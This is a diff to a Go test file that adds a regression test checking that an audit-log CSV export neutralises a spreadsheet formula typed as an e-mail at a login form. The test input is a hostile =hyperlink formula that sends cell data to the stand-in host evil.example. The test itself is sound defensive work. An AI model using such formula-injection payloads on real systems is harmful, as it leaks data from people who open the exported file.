@@ -13,6 +13,7 @@ import (
 	"testing"
 
 	"github.com/regio-mgz/mgz"
+	"github.com/regio-mgz/mgz/service"
 	"github.com/regio-mgz/mgz/sqlite"
 )
 
@@ -149,5 +150,39 @@ func TestAuditExportWritesCSVAndJSONLinesWithFilters(t *testing.T) {
 	if code := run(context.Background(), env, []string{"audit", "export", "--format", "xml", "--from", "gisteren"}); code != 2 ||
 		!strings.Contains(errb.String(), "--format") || !strings.Contains(errb.String(), "--from") {
 		t.Fatalf("bad flags: exit %d, %q", code, errb.String())
+	}
+}
+
+// TestAuditExportNeutralisesAFormulaTypedAtTheLogin: the operator's export holds the e-mail that a
+// stranger typed at the login form; in CSV it must not be a live formula (issue 9).
+func TestAuditExportNeutralisesAFormulaTypedAtTheLogin(t *testing.T) {
+	dbPath, vars, _ := adminDB(t)
+	typed := `=hyperlink("https://evil.example/?d="&a1,"klik")@a.nl`
+	db, err := sqlite.Open(context.Background(), dbPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := service.New(db.Store(), service.Config{}).Login(context.Background(), typed, "wat dan ook", "192.0.2.1"); err == nil {
+		t.Fatal("login with a formula succeeded")
+	}
+	db.Close()
+	rows, err := csv.NewReader(strings.NewReader(cliRun(t, vars, "audit", "export", "--format", "csv"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if strings.HasPrefix(cell, "=") {
+				t.Fatalf("cell %q is a live formula", cell)
+			}
+			found = found || cell == "'"+typed
+		}
+	}
+	if !found {
+		t.Fatalf("the typed e-mail is not in the CSV as '%s", typed)
+	}
+	if !strings.Contains(cliRun(t, vars, "audit", "export"), `"user_email":"=hyperlink(`) {
+		t.Fatal("JSON Lines does not keep the exact text")
 	}
 }
